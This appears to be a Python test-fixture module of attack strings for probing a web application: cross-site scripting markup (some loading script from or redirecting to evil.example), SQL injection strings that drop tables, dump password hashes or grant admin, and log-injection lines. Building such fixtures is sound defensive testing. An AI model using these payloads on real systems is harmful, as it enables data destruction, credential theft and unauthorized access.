"""Words that attackers write, gathered from what has worked elsewhere."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "`onmouseover=alert(1)`",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=csrf>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "{{ 7 * 7 }}{% for x in [].__class__ %}x{% endfor %}${7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u202e<b>\u202d",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u2028script>alert(1)</script>",
)

STATEMENTS = (
    "'",
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE care_requests; --",
    "'); DELETE FROM audit; --",
    '" OR ""="',
    "1; UPDATE staff SET role = 'admin'",
    "' UNION SELECT password_hash FROM staff --",
    "%' AND 1=CAST((SELECT password_hash FROM staff) AS INT) --",
    "\\'; SELECT pg_sleep(5); --",
    "%",
    "_",
    ":'csrf'",
    "a:* & b | !c",
    "<-> ((( '''",
    "$$ OR $1",
    "\\",
)

LINES = (
    "x\r\n2026-11-24T12:00:00Z INFO bot.console.audit signed_in member=1",
    'x\n{"level": "ERROR"}',
    "x\x1b[2J\x1b[1;31m",
    "x\u2028y\u2029z\x85",
    "x level=ERROR event=signed_in",
)


def together(words: tuple[str, ...], size: int = 8) -> list[str]:
    """The words in a few long texts: whatever one of them opens shows, whatever follows."""
    return [" ".join(words[at : at + size]) for at in range(0, len(words), size)]
